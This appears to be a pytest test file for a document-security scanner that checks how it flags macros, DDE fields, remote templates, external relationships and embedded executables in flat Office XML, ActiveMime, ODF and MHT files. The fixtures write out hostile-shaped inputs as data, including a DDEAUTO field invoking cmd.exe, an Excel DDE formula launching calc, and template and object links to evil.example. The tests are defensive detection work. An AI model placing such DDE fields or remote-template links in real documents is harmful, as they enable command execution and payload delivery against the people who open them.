"""Office documents as one XML file (office_xml), and what Office packs into them (activemime): not plain text."""

from __future__ import annotations

import base64
import zlib
from email.message import EmailMessage

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.inspection.content.building import compound, kinds, look, ole10native, vba_project
from zoneguard.model.flows import Certainty

PROGRAM = b"MZ\x90\0" + bytes(300)
HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
WORD_2003 = "http://schemas.microsoft.com/office/word/2003/wordml"
EXCEL_2003 = "urn:schemas-microsoft-com:office:spreadsheet"
EMPTY_BASIC = '<office:script script:language="ooo:Basic"><ooo:libraries/></office:script>'
FLAT = "http://schemas.microsoft.com/office/2006/xmlPackage"
ODF = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"


def active_mime(document: bytes, at: int = 0x32) -> bytes:
    return b"ActiveMime\0\0\x01\xf0\x04\0\0\0\xff\xff\xff\xff".ljust(at, b"\0") + zlib.compress(document)


def word_2003(inside: str, attributes: str = "") -> bytes:
    start = f'<?mso-application progid="Word.Document"?>\n<w:wordDocument xmlns:w="{WORD_2003}" {attributes}>'
    return f"{HEAD}{start}{inside}</w:wordDocument>".encode()


def flat_package(*parts: str) -> bytes:
    start = f'<?mso-application progid="Word.Document"?><pkg:package xmlns:pkg="{FLAT}">'
    return f"{HEAD}{start}{''.join(parts)}</pkg:package>".encode()


def flat_odf(inside: str) -> bytes:
    spaces = 'xmlns:script="s" xmlns:ooo="o" xmlns:xlink="x" xmlns:text="t" xmlns:draw="d" xmlns:table="b"'
    return f'{HEAD}<office:document xmlns:office="{ODF}" {spaces}>{inside}</office:document>'.encode()


@pytest.mark.parametrize("at", [0x32, 0x22A, 0x40])
def test_macros_of_word_2003_are_found_in_what_is_packed(at: int) -> None:
    packed = base64.encodebytes(active_mime(compound(vba_project()), at)).decode()
    seen = look(
        word_2003(f'<w:docSuppData><w:binData w:name="editdata.mso">{packed}</w:binData></w:docSuppData>'), "a.doc"
    )
    assert seen.certainty is Certainty.INSPECTED
    (hazard,) = seen.hazards
    assert (hazard.kind, hazard.where.partition("!")[0]) == ("vba-macro", "editdata.mso")
    assert "runs by itself: AutoOpen" in hazard.detail


def test_what_word_2003_says_of_itself_counts_though_the_data_is_missing() -> None:
    said = 'w:macrosPresent="yes" w:embeddedObjPresent="yes" w:ocxPresent="no"'
    assert kinds(look(word_2003("", said), "a.xml")) == ["vba-macro", "embedded-object"]


def test_fields_templates_and_relations_of_one_file() -> None:
    field = '<w:fldSimple w:instr="DDEAUTO c:\\\\cmd.exe"/><w:attachedTemplate w:val="http://evil.example/t.dot"/>'
    assert set(kinds(look(word_2003(field), "a.xml"))) == {"dde", "external-template"}
    relation = '<Relationship Type="x/oleObject" Target="http://evil.example/x" TargetMode="External"/>'
    part = f'<pkg:part pkg:name="/word/_rels/document.xml.rels"><pkg:xmlData>{relation}</pkg:xmlData></pkg:part>'
    assert kinds(look(flat_package(part), "a.xml")) == ["external-relationship"]


def test_parts_of_a_flat_package_are_opened_under_their_names() -> None:
    project = base64.b64encode(compound(vba_project())).decode()
    package = base64.b64encode(compound({"\x01Ole10Native": ole10native(b"run.exe", PROGRAM)})).decode()
    seen = look(
        flat_package(
            f'<pkg:part pkg:name="/word/vbaProject.bin" pkg:contentType="application/vnd.ms-office.vbaProject">'
            f"<pkg:binaryData>{project}</pkg:binaryData></pkg:part>",
            f'<pkg:part pkg:name="/word/embeddings/o.bin"><pkg:binaryData>{package}</pkg:binaryData></pkg:part>',
        ),
        "a.xml",
    )
    assert [m.content.name for m in seen.members] == ["word/vbaProject.bin", "word/embeddings/o.bin"]
    assert {"vba-macro", "embedded-object", "executable"} == set(kinds(seen))
    assert "word/embeddings/o.bin!run.exe" in [h.where for h in seen.hazards if h.kind == "executable"]


def test_flat_open_document() -> None:
    module = (
        '<office:script script:language="ooo:Basic"><ooo:libraries><ooo:module><ooo:source-code>Sub x</ooo:source-code>'
    )
    seen = look(
        flat_odf(f"<office:scripts>{module}</ooo:module></ooo:libraries></office:script></office:scripts>"), "a.fodt"
    )
    assert kinds(seen) == ["script-macro"]
    listener = '<script:event-listener xlink:href="vnd.sun.star.script:a"/>'
    assert kinds(look(flat_odf(listener), "a.fods")) == ["event-macro"]
    assert kinds(look(flat_odf('<table:c table:formula="of:=DDE(&quot;cmd&quot;)"/>'), "a.fods")) == ["dde"]
    held = base64.b64encode(PROGRAM).decode()
    seen = look(
        flat_odf(f"<draw:object-ole><office:binary-data>{held}</office:binary-data></draw:object-ole>"), "a.fodt"
    )
    assert kinds(seen) == ["executable"]


def test_formulas_of_excel_2003() -> None:
    for formula, found in (("=cmd|'/c calc'!A0", ["dde"]), ("=SUM(A1:A2)", [])):
        sheet = f'<ss:Workbook xmlns:ss="{EXCEL_2003}"><ss:Cell ss:Formula="{formula}"/></ss:Workbook>'
        assert kinds(look(f"{HEAD}{sheet}".encode(), "a.xls")) == found


@pytest.mark.parametrize(
    ("clean", "name"),
    [
        (word_2003("<w:body><w:p>text</w:p></w:body>", 'w:macrosPresent="no"'), "a.doc"),
        (flat_package('<pkg:part pkg:name="/word/document.xml"><pkg:xmlData/></pkg:part>'), "a.xml"),
        (flat_odf(f"<office:scripts>{EMPTY_BASIC}</office:scripts>"), "a.fodt"),
    ],
)  # fmt: skip
def test_documents_without_anything_have_no_hazard(clean: bytes, name: str) -> None:
    seen = look(clean, name)
    assert (seen.hazards, seen.certainty) == ((), Certainty.INSPECTED)
    assert seen.media_type != "text/plain"


def test_other_xml_is_text() -> None:
    assert look(b'<?xml version="1.0"?><a>schemas</a>', "a.xml").media_type == "text/plain"


def test_damaged_xml_is_partial() -> None:
    assert look(word_2003("<w:p>").replace(b"</w:wordDocument>", b""), "a.xml").certainty is Certainty.PARTIAL
    assert look(word_2003('<w:binData w:name="x">QUJD=QUJDR</w:binData>'), "a.xml").certainty is not Certainty.INSPECTED


def test_packed_data_that_is_no_document_is_opaque() -> None:
    assert look(b"ActiveMime" + bytes(100), "editdata.mso").certainty is Certainty.OPAQUE


def test_macros_of_a_web_archive() -> None:
    message = EmailMessage()
    message["Subject"] = "x"
    message["From"] = "a@example.jp"
    message.set_content("<html><p>text</p></html>", subtype="html")
    message.add_related(active_mime(compound(vba_project())), "application", "x-mso", filename="editdata.mso")
    assert "vba-macro" in kinds(look(message.as_bytes(), "a.mht"))
    for header in ("Subject", "From"):
        del message[header]
    bare = b"MIME-Version: 1.0\r\n" + message.as_bytes().replace(b"MIME-Version: 1.0\n", b"")
    assert {"vba-macro", "name-mismatch"} <= set(kinds(look(bare, "a.doc")))  # as Word opens it


TOKENS = [
    "<w:binData>",
    "</w:binData>",
    "QUJD",
    "=",
    "<pkg:part pkg:name='a'>",
    "</pkg:part>",
    "<w:p>",
    "</w:p>",
    "&x;",
    "é",
]


@settings(max_examples=100, deadline=None)
@given(st.lists(st.sampled_from(TOKENS), max_size=20).map("".join))
def test_any_tokens_never_raise(inside: str) -> None:
    look(word_2003(inside, f'xmlns:pkg="{FLAT}"'), "a.xml")
